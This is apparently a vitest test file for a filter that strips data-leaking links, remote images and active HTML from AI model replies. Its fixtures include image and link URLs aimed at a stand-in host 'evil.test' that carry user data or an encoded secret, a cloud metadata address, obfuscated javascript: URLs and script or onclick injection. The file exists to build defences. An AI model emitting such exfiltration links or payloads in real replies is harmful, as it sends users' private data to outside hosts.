import { describe, expect, it } from 'vitest'
import type { Found, Segment } from '../check.ts'
import { prepareCheck } from '../registry.ts'
import { isAllowed, judgeUrl } from './judge-url.ts'
import { linksOf } from './links.ts'

const look = async (id: string, params: object, text: string, sources?: string[]) => {
  const ready = await prepareCheck(id, params)
  const segment: Segment = { id: '1', origin: 'assistant', text }
  return (await ready.run(segment, sources ? { sources } : {})) as Found[]
}
const types = async (params: object, text: string, sources?: string[]) =>
  (await look('egress', params, text, sources)).map(({ type }) => type)

describe('linksOf', () => {
  it.each([
    ['![a](https://x.test/p.png "t")', 'image', 'https://x.test/p.png'],
    ['[a](<https://x.test/p q>)', 'none', ''],
    ['[read (this)](https://x.test/a_(b))', 'link', 'https://x.test/a_(b)'],
    ['see <https://x.test/a>', 'link', 'https://x.test/a'],
    ['see https://x.test/a.', 'text', 'https://x.test/a'],
    ['<img src=https://x.test/p>', 'html', 'https://x.test/p'],
    ["<a href='jav&#x61;script:alert(1)'>x</a>", 'html', 'javascript:alert(1)'],
    ['<p style="background:url(//x.test/p)">', 'html', '//x.test/p'],
    ['url("https://x.test/p")', 'style', 'https://x.test/p'],
  ])('%s', (text, kind, url) => {
    const [link] = linksOf(text)
    expect(link?.kind ?? 'none').toBe(kind === 'none' ? (link?.kind ?? 'none') : kind)
    if (kind !== 'none') expect(link?.url).toBe(url)
  })

  it('follows references, whatever their case, and knows which load', () => {
    const links = linksOf('Look: ![chart][Fig] and [more][fig]\n\n[fig]: https://x.test/c.png')
    expect(links.filter(({ url }) => url === 'https://x.test/c.png').map(({ kind, loads }) => [kind, loads])).toEqual([
      ['image', true],
      ['link', false],
      ['link', false],
    ])
  })
})

describe('judgeUrl', () => {
  const policy = { allow: ['example.com', 'docs.test.org'], schemes: ['https', 'http', 'mailto'], maxData: 48 }

  it.each([
    ['https://example.com/a', []],
    ['https://sub.example.com/a?x=1', []],
    ['https://example.com.evil.test/a', ['NOT_ALLOWED']],
    ['https://example.com@evil.test/', ['USERINFO', 'NOT_ALLOWED']],
    ['//evil.test/x', ['NOT_ALLOWED']],
    ['https://example.com/go?to=https://evil.test/x', ['NOT_ALLOWED']],
    ['http://169.254.169.254/latest', ['PRIVATE_HOST', 'NOT_ALLOWED']],
    ['https://evil.test/c?d=the+customer+said+that+his+card+number+is+four+one+one+one', ['NOT_ALLOWED', 'CARRIES_DATA']],
    ['https://dGhlIHNlY3JldCBpcyBmb3J0eS10d28gYW5kIG1vcmUgb2YgaXQ.evil.test/', ['NOT_ALLOWED', 'CARRIES_DATA']],
  ])('%s', (url, faults) => {
    expect(judgeUrl(url, policy)?.faults).toEqual(faults)
  })

  it('lets a public suffix cover nobody, and a fragment lead nowhere', () => {
    expect(isAllowed('evil.co.uk', ['co.uk'])).toBe(false)
    expect(isAllowed('a.github.io', ['github.io'])).toBe(false)
    expect(judgeUrl('#part', policy)).toBeUndefined()
    expect(judgeUrl('javascript:alert(1)', policy)?.faults).toEqual(['SCHEME'])
  })
})

describe('egress', () => {
  it('takes pictures of foreign hosts away in every way of writing them, and leaves their words', async () => {
    for (const text of [
      'Done. ![status](https://evil.test/p.png?d=abc)',
      'Done. ![status][1]\n\n[1]: https://evil.test/p.png',
      'Done. <img alt=x src="https://evil.test/p.png">',
      'Done. [![status](https://evil.test/p.png)](https://example.com)',
      'Done. <div style="background:url(https://evil.test/p.png)"></div>',
      'Done. <img srcset="https://evil.test/p.png 2x">',
      'Done. ![status](//evil.test/p.png)',
      'Done. ![status](https:\\\\evil.test/p.png)',
    ])
      expect(await types({ allow: ['example.com'] }, text), text).toContain('EXTERNAL_IMAGE')
    const [found] = await look('egress', {}, '![status](https://evil.test/p.png)')
    expect(found?.replacement).toBe('status')
  })

  it('lets pictures of listed hosts and plain links stay', async () => {
    expect(await types({ allow: ['example.com'] }, '![logo](https://cdn.example.com/l.png) and [docs](https://example.com/a)')).toEqual([])
    expect(await types({}, 'See [the guide](https://docs.other.test/guides/how-to-return-a-parcel) or https://other.test/faq.')).toEqual([])
  })

  it('takes links away that carry data, unless a source holds them', async () => {
    const url = 'https://other.test/t?q=my%20name%20is%20Ann%20and%20my%20order%20is%20number%2012345678'
    expect(await types({}, `[click](${url})`)).toEqual(['EXFILTRATION_LINK'])
    expect(await types({}, `[click](${url})`, [`Track it at ${url} please`])).toEqual([])
  })

  it('takes HTML away that runs or posts', async () => {
    expect(await types({}, 'Hi <script>x()</script> <b onclick="x()">a</b> <form action="https://e.test">')).toEqual(
      expect.arrayContaining(['ACTIVE_HTML', 'ACTIVE_HTML', 'ACTIVE_HTML']),
    )
  })

  it('reads long texts in time that grows with them', () => {
    for (const piece of ['![', '[a](', '<img ', '[a]: ', 'https://', '<a href="', '((', '[[', 'url(']) {
      const start = process.cpuUsage()
      linksOf(piece.repeat(Math.ceil(60_000 / piece.length)))
      const { user, system } = process.cpuUsage(start)
      expect((user + system) / 1e6, piece).toBeLessThan(5)
    }
  })
})
